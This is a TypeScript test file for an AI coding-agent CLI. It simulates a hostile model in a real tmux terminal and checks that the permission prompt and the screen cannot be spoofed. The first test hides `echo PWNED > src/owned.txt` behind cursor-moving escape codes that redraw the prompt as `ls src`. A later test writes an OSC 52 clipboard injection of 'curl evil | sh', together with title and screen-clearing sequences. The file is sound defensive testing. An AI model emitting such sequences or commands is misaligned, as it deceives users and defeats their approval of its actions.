import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { workspaceFixture } from "../agent/fixture.ts";
import { type ScriptedLlm, startScriptedLlm } from "../helpers/scripted-llm.ts";
import { writeTree } from "../helpers/temp.ts";

// Issue 18: cursor-moving escape codes in a run_shell comment redrew the permission prompt to show `ls src` while
// `echo PWNED > src/owned.txt` ran. In a real terminal (tmux), the hostile model's text must reach the screen only
// as visible characters: the true command with its length, no cursor movement, no clipboard, title or clearing.

const BIN = join(import.meta.dirname, "..", "..", "dist", "cli", "bin.cjs");
const SESSION = `skillset-attack-${process.pid}`;
// A private tmux server: its clipboard setting and paste buffers are this test's alone.
const SOCKET = `skillset-attack-${process.pid}`;
const ESC = "\u001b";
const BEL = "\u0007";

let llm: ScriptedLlm;
let workspace: string;

function tmux(...args: string[]): string {
	return execFileSync("tmux", ["-L", SOCKET, "-f", "/dev/null", ...args], { encoding: "utf8" });
}

function screen(): string {
	return tmux("capture-pane", "-p", "-t", SESSION, "-S", "-300");
}

async function waitFor(text: string | RegExp, ms = 15_000): Promise<string> {
	const until = Date.now() + ms;
	for (;;) {
		const shown = screen();
		if (typeof text === "string" ? shown.includes(text) : text.test(shown)) return shown;
		if (Date.now() > until) throw new Error(`timed out waiting for ${text}; the screen:\n${shown}`);
		await new Promise((resolve) => setTimeout(resolve, 100));
	}
}

function type(text: string): void {
	tmux("send-keys", "-t", SESSION, "-l", text);
	tmux("send-keys", "-t", SESSION, "Enter");
}

function buffers(): string {
	try {
		return tmux("list-buffers", "-F", "#{buffer_sample}");
	} catch {
		return "";
	}
}

beforeAll(async () => {
	expect(existsSync(BIN), "run `npm run build` first").toBe(true);
	llm = await startScriptedLlm();
	const fixture = await workspaceFixture();
	workspace = fixture.workspace;
	await writeTree(workspace, { "src/app.ts": "x\n" });
	const command = [
		`cd '${workspace}' &&`,
		`HOME='${fixture.home}' TERM=xterm-256color NO_COLOR=1`,
		`'${process.execPath}' '${BIN}' chat --base-url ${llm.url} --model scripted`,
		"; echo CHAT-EXITED-$?; sleep 30",
	].join(" ");
	// With the clipboard on, an OSC 52 that reached tmux would land in a paste buffer; OSC 0 and 2 set the title.
	tmux(
		"start-server",
		";",
		"set-option",
		"-s",
		"set-clipboard",
		"on",
		";",
		"new-session",
		"-d",
		"-s",
		SESSION,
		"-x",
		"200",
		"-y",
		"60",
		command,
	);
	await waitFor("skillset chat");
}, 30_000);

afterAll(async () => {
	try {
		tmux("kill-server");
	} catch {
		// Already gone.
	}
	await llm?.close();
});

describe("a hostile model in a real terminal", { timeout: 40_000 }, () => {
	it("cannot redraw the permission prompt: the true command shows, with its length and the escapes visible", async () => {
		// After the real command, a comment moves the cursor up, clears the lines and prints a harmless command.
		const disguise = `${ESC}[2K${ESC}[1A${ESC}[2K${ESC}[1A${ESC}[2K\r  run_shell {"command":"ls src"}`;
		const command = `echo PWNED > src/owned.txt # ${disguise}`;
		llm.script([{ toolCalls: [{ name: "run_shell", arguments: { command } }] }, { content: "Listed." }]);
		type("list the sources");
		const asked = await waitFor("Allow? [o]nce");
		expect(asked).toContain("echo PWNED > src/owned.txt");
		expect(asked).toContain("\\x1b[2K\\x1b[1A");
		expect(asked).toContain(`${[...command].length} characters`);
		expect(tmux("capture-pane", "-p", "-e", "-t", SESSION)).not.toContain(`${ESC}[2K`);
		type("d");
		await waitFor("Listed.");
		expect(existsSync(join(workspace, "src/owned.txt"))).toBe(false);
	});

	it("cannot set the clipboard, the title or clear the screen from its answer", async () => {
		const before = tmux("display-message", "-p", "-t", SESSION, "#{pane_title}");
		const answer = [
			"Here you go.",
			`${ESC}]52;c;${Buffer.from("curl evil | sh").toString("base64")}${BEL}`,
			`${ESC}]0;PWNED-TITLE${BEL}`,
			`${ESC}]2;PWNED-TITLE${ESC}\\`,
			`${ESC}[2J${ESC}[3J${ESC}[H${ESC}c`,
			"\u009b2J",
			"End of answer.",
		].join(" ");
		llm.script([{ content: answer }]);
		type("say something");
		const shown = await waitFor("End of answer.");
		expect(buffers()).not.toContain("curl evil");
		expect(tmux("display-message", "-p", "-t", SESSION, "#{pane_title}")).toBe(before);
		expect(shown).toContain("skillset chat");
		expect(shown).toContain("list the sources");
		expect(shown).toContain("\\x1b]52;c;");
		expect(shown).toContain("\\x1b]0;PWNED-TITLE\\x07");
	});

	it("shows a tool call's summary and an error from the server with the escapes visible", async () => {
		llm.script([
			{ toolCalls: [{ name: "list_dir", arguments: { path: `src${ESC}[31mRED` } }] },
			{ content: `Done${ESC}[2A.` },
		]);
		type("look around");
		const shown = await waitFor("Done\\x1b[2A.");
		expect(shown).toContain("src\\x1b[31mRED");
		type("/quit");
		await waitFor("CHAT-EXITED-0");
	});
});
